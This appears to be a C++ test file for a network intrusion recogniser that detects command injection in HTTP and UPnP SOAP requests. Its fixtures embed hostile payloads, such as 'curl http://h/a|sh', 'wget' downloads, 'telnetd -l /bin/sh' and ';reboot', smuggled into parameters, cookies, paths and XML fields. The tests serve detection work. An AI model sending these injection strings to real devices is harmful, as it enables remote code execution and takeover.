#include "recogniser_fixture.hpp"

// Commands hidden in fields of which no signature knows, and payloads that have none.
namespace nightjar::test {
namespace {

struct Place {
  std::string action, field, command;
  friend bool operator==(const Place&, const Place&) = default;
  friend std::ostream& operator<<(std::ostream& to, const Place& place) {
    return to << place.action << " " << place.field << ": " << place.command;
  }
};
std::vector<Place> unknown_in(const std::string& payload, std::uint16_t port = 80) {
  std::vector<Place> places;
  for (const Injection& injection : recognised(payload, port).injections) {
    EXPECT_EQ(injection.port, port);
    if (!injection.known) places.push_back({injection.action, injection.field, injection.command});
  }
  return places;
}

TEST(Injections, InSoapAreNamedByActionAndElement) {
  const std::string payload = request("POST /upnp/control", "SOAPAction: \"urn:x:service:Y:1#SetThing\"\r\n",
                                      "<s:Body><u:SetThing><NewName>x&amp;&amp;wget http://h/a</NewName></u:SetThing></s:Body>");
  EXPECT_EQ(unknown_in(payload, 49'152), (std::vector<Place>{{"SetThing", "NewName", "wget http://h/a"}}));
  EXPECT_EQ(tags_of(payload), Ids{"soap-command-injection"});
}

TEST(Injections, InHttpAreNamedByPathAndParameter) {
  EXPECT_EQ(unknown_in(request("GET /cgi-bin/ping.cgi?n=1&host=1.1.1.1%3Bwget+http%3A%2F%2Fh%2Fa")),
            (std::vector<Place>{{"/cgi-bin/ping.cgi", "host", "wget http://h/a"}}));
  EXPECT_EQ(unknown_in(request("POST /goform/x", "", "a=1&mac=`telnetd -l /bin/sh`")),
            (std::vector<Place>{{"/goform/x", "mac", "telnetd -l /bin/sh"}}));
  EXPECT_EQ(unknown_in(request("GET /login", "Cookie: uid=`curl http://h/a|sh`\r\n")),
            (std::vector<Place>{{"/login", "Cookie", "curl http://h/a|sh"}}));
  EXPECT_EQ(unknown_in(request("GET /cgi-bin/;wget${IFS}http://h/a")), (std::vector<Place>{{"/cgi-bin/", "path", "wget${IFS}http://h/a"}}));
  EXPECT_EQ(unknown_in(request("GET /run?cd+/tmp;wget+http://h/a")), (std::vector<Place>{{"/run", "query", "cd /tmp;wget http://h/a"}}));
  EXPECT_EQ(unknown_in(request("POST /api/v1", "", "{\"n\": 1, \"cmd\": \"$(curl http://h/a)\"}")),
            (std::vector<Place>{{"/api/v1", "cmd", "curl http://h/a"}}));
  EXPECT_EQ(tags_of(request("GET /run?cd+/tmp;wget+http://h/a")), Ids{"http-command-injection"});
}

TEST(Injections, KnownToAnExploitAreOnlyThoseInItsFields) {
  // The camera's hole is in the parameters; nobody knows of one in its User-Agent.
  const std::string payload = request("GET /set_ftp.cgi?svr=$(wget+http://h/a)", "User-Agent: x;wget http://h/b\r\n");
  EXPECT_EQ(unknown_in(payload), (std::vector<Place>{{"/set_ftp.cgi", "User-Agent", "wget http://h/b"}}));
  EXPECT_EQ(recognised(payload).injections.size(), 2U);
}

TEST(Injections, AreFoundInEveryRequestOfAConnection) {
  // A search, a body that is shorter or longer than it says, and the exploit behind them.
  const std::string exploit = "GET /shell?cd+/tmp;wget+http://h/a HTTP/1.1\r\nHost: h\r\n\r\n";
  for (const std::string& before : {request("GET /"), request("POST /a", "Content-Length: 99\r\n", "a=1"),
                                    request("POST /a", "Content-Length: 1\r\n", "<s:Body><u:Ask><A>1</A></u:Ask></s:Body>")}) {
    const Recognition recognition = recognised(before + exploit);
    EXPECT_EQ(ids_of(recognition), (Ids{"jaws-dvr-shell", "http-command-injection"})) << before;
    ASSERT_EQ(recognition.injections.size(), 1U);
    EXPECT_EQ(recognition.injections[0].action, "/shell");
    EXPECT_EQ((before + exploit).substr(recognition.injections[0].offset, recognition.injections[0].length), "cd+/tmp;wget+http://h/a");
    growing_tags(before + exploit);
  }
  // More requests than are told apart.
  std::string many;
  for (int i = 0; i < 100; ++i) many += request("GET /x?a=1");
  EXPECT_EQ(tags_of(many), Ids());
}

TEST(Injections, AreBounded) {
  std::string query;
  for (int i = 0; i < 100; ++i) query += "a" + std::to_string(i) + "=;reboot&";
  EXPECT_EQ(recognised(request("GET /x?" + query)).injections.size(), 16U);
  const Recognition recognition = recognised(request("GET /" + std::string(5'000, 'x') + "?" + std::string(5'000, 'y') + "=;reboot"));
  ASSERT_EQ(recognition.injections.size(), 1U);
  EXPECT_EQ(recognition.injections[0].action.size(), Injection::kLongestName);
  EXPECT_EQ(recognition.injections[0].field.size(), Injection::kLongestName);
}

TEST(Injections, AreLookedForInTheFirst64KiB) {
  const std::string before = "GET /x?" + std::string(Recogniser::kMostBytes - 7, 'a');
  EXPECT_EQ(tags_of(before + ";wget+h HTTP/1.1\r\n\r\n"), Ids());
  EXPECT_EQ(tags_of(before.substr(0, before.size() - 100) + ";wget+h HTTP/1.1\r\n\r\n"), Ids{"http-command-injection"});
}

TEST(OrdinaryWeb, HasNoTags) {
  const std::string browser =
      "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\r\n"
      "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.5\r\n"
      "Cookie: sid=0f; id=7; cat=3; ls=1; theme=dark; path=/; _ga=GA1.2.1|2; more=`none`\r\n"
      "Referer: http://www.example.org/search?q=a|b;c&cat=dogs\r\n";
  for (const std::string& payload : {
           request("GET /", browser),
           request("GET /robots.txt", browser),
           request("GET /a?b=1&c=two+words&d=%E3%81%82&e=$(f)&&g=1", browser),
           request("GET /search?q=how+to+use+wget+and+curl", browser),
           request("GET /fonts?family=Open+Sans:400|Roboto;x", browser),
           request("POST /comment", browser + "Content-Type: application/x-www-form-urlencoded\r\n",
                   "text=I+like+it%3B+my+cat+too+%7C+see+you+%26+bye%0Afind+me+there&id=5"),
           request("POST /api", browser + "Content-Type: application/json\r\n", "{\"jndi\": \"a\", \"q\": \"${x}\", \"id\": 1}"),
           request("POST /upload", browser + "Content-Type: multipart/form-data; boundary=--x\r\n",
                   "----x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.js\"\r\n\r\nfunction a() { $('#id').hide(); "
                   "}\r\n----x--"),
           request("POST /ctl/IPConn", "SOAPAction: \"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\"\r\n",
                   "<?xml version=\"1.0\"?><s:Envelope><s:Body><u:AddPortMapping><NewRemoteHost></NewRemoteHost><NewExternalPort>6881"
                   "</NewExternalPort><NewInternalClient>192.168.1.20</NewInternalClient><NewPortMappingDescription>Game &amp; chat"
                   "</NewPortMappingDescription></u:AddPortMapping></s:Body></s:Envelope>"),
           request("PROPFIND /dav", browser, "<?xml version=\"1.0\"?><D:propfind xmlns:D=\"DAV:\"><D:prop><D:id/></D:prop></D:propfind>"),
           request("CONNECT www.example.com:443"),
           std::string("SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"),
           std::string("EHLO x\r\nMAIL FROM:<a@b>\r\n"),
           std::string(
               "HTTP/1.1 200 OK\r\nServer: x\r\nContent-Type: text/html\r\n\r\n<html><script>var a = function() { b(); };</script></html>"),
       })
    EXPECT_EQ(tags_of(payload), Ids()) << payload;
}

}  // namespace
}  // namespace nightjar::test
